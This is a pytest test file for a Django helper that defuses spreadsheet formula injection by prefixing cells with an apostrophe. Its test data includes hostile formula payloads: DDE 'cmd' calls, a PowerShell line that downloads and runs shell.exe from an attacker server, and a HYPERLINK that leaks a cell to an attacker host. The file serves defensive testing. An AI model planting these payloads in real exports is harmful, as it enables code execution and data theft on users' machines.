import pytest
from django.db.models import Value

from cases.applicants.models import UsedPseudonym
from cases.desk.defusing import defused

pytestmark = pytest.mark.django_db

FORMULAS = [
    "=1+1",
    "+1-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    '=HYPERLINK("http://attacker.invalid?leak="&A1,"Error: please click")',
    "=10+20+cmd|' /C calc'!A0",
    '"=1+1',
    "'=1+1",
    '"@SUM(1+1)',
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    ";=1+1",
    ",=1+1",
    "|=1+1",
    "; ' =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain after a tab",
    "\rplain after a return",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "−1+1",
    "﹦1+1",
    "«=1+1»",
]
HARMLESS = [
    "",
    "Lotus 47",
    "a=b",
    "1+1",
    "e-mail only",
    "name@host",
    "«Quoted»",
    "'tis",
    "ждёт ответа",
    "two\nlines",
]


def cell(text):
    UsedPseudonym.objects.get_or_create(pseudonym="one row")
    return UsedPseudonym.objects.annotate(cell=defused(Value(text))).values_list("cell", flat=True).get()


@pytest.mark.parametrize("text", FORMULAS)
def test_the_beginning_of_a_formula_gets_an_apostrophe_and_loses_nothing(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text):
    assert cell(text) == text


def test_a_defused_cell_is_told_from_text_that_began_with_an_apostrophe():
    assert cell("'=1") == "''=1"
